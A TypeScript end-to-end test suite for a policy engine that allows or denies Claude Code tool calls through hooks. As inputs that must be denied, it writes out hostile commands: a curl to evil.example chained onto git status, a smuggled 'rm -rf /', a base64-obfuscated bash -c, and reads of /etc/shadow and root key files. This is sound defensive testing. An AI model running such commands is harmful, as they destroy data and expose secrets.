import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type HookRun, realPdpHookServer, runHook, toolEvent } from './hooks-support.ts';

// Claude Code hooks end to end: the real `paddock hook claude-code` process, the hook server,
// and the real PDP server deciding with the coding-agent example bundle. Payloads follow the
// hooks reference (code.claude.com/docs/en/hooks): PreToolUse answers
// hookSpecificOutput.permissionDecision, PostToolUse answers decision "block" or nothing.

const { socket, events } = await realPdpHookServer('coding-agent');

const pre = (tool: string, input: unknown) =>
  runHook('claude-code', toolEvent('claude-code', 'PreToolUse', tool, input), socket);

function decision(run: HookRun): { permissionDecision: string; permissionDecisionReason: string } {
  assert.equal(run.code, 0, run.stderr);
  assert.equal(run.json.hookSpecificOutput.hookEventName, 'PreToolUse');
  return run.json.hookSpecificOutput;
}

describe('claude-code hook against the real PDP (coding-agent bundle)', () => {
  it('allows Bash `git status` and names the permitting policy', async () => {
    const answer = decision(
      await pre('Bash', { command: 'git status', description: 'Show working tree status' }),
    );
    assert.equal(answer.permissionDecision, 'allow');
    assert.match(answer.permissionDecisionReason, /commands\.allow\[0\]/);
  });

  it('denies `git status; curl evil` because of the curl, with the policy and reason', async () => {
    const answer = decision(await pre('Bash', { command: 'git status; curl https://evil.example/x' }));
    assert.equal(answer.permissionDecision, 'deny');
    assert.match(
      answer.permissionDecisionReason,
      /running "curl https:\/\/evil\.example\/x": a commands\.deny pattern matches the command \(command_denied; policy commands\.deny\[\d+\]\)/,
    );
  });

  it('denies `echo $(rm -rf /)` for the substitution inside', async () => {
    const answer = decision(await pre('Bash', { command: 'ls $(rm -rf /)' }));
    assert.equal(answer.permissionDecision, 'deny');
    assert.match(
      answer.permissionDecisionReason,
      /running "rm -rf \/" \(via \$\(\.\.\.\)\): no commands\.allow pattern matches/,
    );
  });

  it('denies `git push origin main` (deny pattern) but allows a feature-branch push', async () => {
    assert.equal(decision(await pre('Bash', { command: 'git push origin main' })).permissionDecision, 'deny');
    assert.equal(
      decision(await pre('Bash', { command: 'git push origin feature/x' })).permissionDecision,
      'allow',
    );
  });

  it('denies an unverifiable command with a message asking for a simpler form', async () => {
    const answer = decision(await pre('Bash', { command: 'bash -c "$(echo Y3VybA== | base64 -d)"' }));
    assert.equal(answer.permissionDecision, 'deny');
    assert.match(
      answer.permissionDecisionReason,
      /could not verify this command: the bash -c script is only known at run time\. It is too complex to check safely; to retry, pass the script literally/,
    );
  });

  it('checks a redirection target as a write: inside /workspace allowed, /etc denied', async () => {
    assert.equal(
      decision(await pre('Bash', { command: 'ls > build/files.txt' })).permissionDecision,
      'allow',
    );
    const denied = decision(await pre('Bash', { command: 'ls > ../etc/motd' }));
    assert.equal(denied.permissionDecision, 'deny');
    assert.match(
      denied.permissionDecisionReason,
      /writing \/etc\/motd: the path is outside every dataScope scope/,
    );
  });

  it('allows Edit and Write inside /workspace and denies .env and the harness config', async () => {
    const edit = { file_path: '/workspace/src/app.ts', old_string: 'a', new_string: 'b' };
    assert.equal(decision(await pre('Edit', edit)).permissionDecision, 'allow');
    assert.equal(
      decision(await pre('MultiEdit', { file_path: '/workspace/src/app.ts', edits: [] })).permissionDecision,
      'allow',
    );
    const env = decision(await pre('Write', { file_path: '/workspace/.env', content: 'TOKEN=x' }));
    assert.equal(env.permissionDecision, 'deny');
    assert.match(env.permissionDecisionReason, /path_denied/);
    const config = decision(
      await pre('Write', { file_path: '/workspace/.claude/settings.json', content: '{}' }),
    );
    assert.match(config.permissionDecisionReason, /path_protected/);
  });

  it('normalizes paths before asking: `..` out of /workspace is denied, relative paths resolve against cwd', async () => {
    const outside = decision(await pre('Read', { file_path: '/workspace/../etc/shadow' }));
    assert.match(outside.permissionDecisionReason, /reading \/etc\/shadow/);
    assert.equal(
      decision(await pre('NotebookEdit', { notebook_path: 'nb/analysis.ipynb', new_source: 'x' }))
        .permissionDecision,
      'allow',
    );
    const glob = decision(await pre('Glob', { pattern: '../../root/**/*.key', path: '/workspace/src' }));
    assert.match(glob.permissionDecisionReason, /reading \/root/);
  });

  it('checks WebFetch as an http_request: GitHub API allowed, other hosts denied', async () => {
    const ok = await pre('WebFetch', {
      url: 'https://api.github.com/repos/acme/app/pulls/1',
      prompt: 'Summarize the PR',
    });
    assert.equal(decision(ok).permissionDecision, 'allow');
    const denied = decision(await pre('WebFetch', { url: 'https://evil.example/steal', prompt: 'x' }));
    assert.match(denied.permissionDecisionReason, /GET https:\/\/evil\.example\/steal/);
  });

  it('denies WebSearch: the egress policy cannot name a search yet', async () => {
    const answer = decision(
      await pre('WebSearch', { query: 'paddock hooks', allowed_domains: ['example.com'] }),
    );
    assert.equal(answer.permissionDecision, 'deny');
    assert.match(answer.permissionDecisionReason, /web search/);
  });

  it('checks mcp__server__tool against the blueprint MCP allow list', async () => {
    const ok = await pre('mcp__github__get_pull_request', { owner: 'acme', repo: 'app', pull_number: 1 });
    assert.equal(decision(ok).permissionDecision, 'allow');
    const denied = decision(
      await pre('mcp__github__merge_pull_request', { owner: 'acme', repo: 'app', pull_number: 1 }),
    );
    assert.match(
      denied.permissionDecisionReason,
      /calling the MCP tool github\/merge_pull_request: .*tool_not_allowed/,
    );
  });

  it('allows tools with no outside effect (TodoWrite) and denies unknown tools', async () => {
    assert.equal(decision(await pre('TodoWrite', { todos: [] })).permissionDecision, 'allow');
    const unknown = decision(await pre('Teleport', { to: 'mars' }));
    assert.equal(unknown.permissionDecision, 'deny');
    assert.match(unknown.permissionDecisionReason, /the tool Teleport is not known/);
  });

  it('answers PostToolUse with nothing when allowed and with decision "block" when not', async () => {
    const allowed = await runHook(
      'claude-code',
      toolEvent(
        'claude-code',
        'PostToolUse',
        'Write',
        { file_path: '/workspace/a.txt', content: 'x' },
        { tool_response: { filePath: '/workspace/a.txt', success: true } },
      ),
      socket,
    );
    assert.deepEqual([allowed.code, allowed.stdout], [0, '']);
    const blocked = await runHook(
      'claude-code',
      toolEvent(
        'claude-code',
        'PostToolUse',
        'Bash',
        { command: 'curl x' },
        { tool_response: { stdout: 'secret', stderr: '', interrupted: false } },
      ),
      socket,
    );
    assert.equal(blocked.code, 0);
    assert.equal(blocked.json.decision, 'block');
    assert.match(blocked.json.reason, /curl x.*result is withheld/);
    assert.equal(blocked.json.hookSpecificOutput.hookEventName, 'PostToolUse');
  });

  it('leaves one audit event per decision in the PDP trail', async () => {
    const before = events.length;
    await pre('Bash', { command: 'git status && ls src > /workspace/out.txt' });
    assert.equal(events.length - before, 3);
  });
});
